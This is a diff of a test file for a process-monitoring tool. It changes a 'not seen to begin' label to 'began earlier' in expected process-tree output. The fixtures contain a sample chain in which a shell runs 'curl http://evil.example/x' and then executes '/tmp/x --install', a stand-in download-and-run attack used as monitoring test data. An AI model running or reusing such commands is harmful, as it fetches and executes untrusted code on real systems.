@@ -12,7 +12,7 @@ from pysmon.views.words import Screen
 
 PLAIN = Screen()
 DRAWN = """\
-              init [1]  joe  not seen to begin
+              init [1]  joe  began earlier
 2026-11-21
 08:15:00.100  `- bash [100]  joe  exit 0 after 1.2 s  bash -l
 08:15:00.200     |- env [101]  joe  env curl http://evil.example/x
@@ -20,7 +20,7 @@ DRAWN = """\
 08:15:00.800     `- x [102]  joe  exit 1 after 0.4 s  files 1  /tmp/x --install
 08:15:01.000        `- id [103]  joe  exit 0 after 0.1 s  id -un"""
 BOXED = """\
-              init [1]  joe  not seen to begin
+              init [1]  joe  began earlier
 2026-11-21
 08:15:00.100  └─ bash [100]  joe  exit 0 after 1.2 s  bash -l
 08:15:00.200     ├─ env [101]  joe  env curl http://evil.example/x
@@ -84,7 +84,7 @@ def test_a_process_that_only_ended_is_left_away_unless_it_was_asked_for() -> Non
     cast = Cast()
     cast.end(7)
     assert drawn(cast) == ""
-    assert drawn(cast, always=True).strip() == "an unknown program [7]  joe  not seen to begin  exit 0"
+    assert drawn(cast, always=True).strip() == "an unknown program [7]  joe  began earlier  exit 0"
 
 
 def test_days_are_told_as_they_change() -> None:
